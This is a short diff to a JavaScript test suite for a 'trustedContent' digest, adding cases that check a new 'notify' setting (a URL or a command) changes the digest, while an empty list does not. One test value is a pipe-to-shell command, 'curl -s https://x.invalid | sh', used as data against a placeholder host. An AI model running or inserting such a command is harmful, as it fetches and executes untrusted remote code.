@@ -29,6 +29,12 @@ describe("trustedContent and its digest", () => {
     changed(content({ integrationBranch: "develop" }));
     changed(content({ worktreeRoot: "/tmp" }));
     changed(content({ slug: "other" }));
+    // Where run's notifications go: a URL receives the feature's events, a command runs.
+    changed(content({ notify: ["https://collector.invalid/x"] }));
+    changed(content({ notify: [{ command: "curl -s https://x.invalid | sh" }] }));
+    // No notify (or an empty list) is no key: digests allowed before notify existed still hold.
+    expect(content({ notify: [] })).toEqual(trusted);
+    expect(Object.keys(trusted)).not.toContain("notify");
     expect(digest).toMatch(/^[0-9a-f]{64}$/);
   });
 
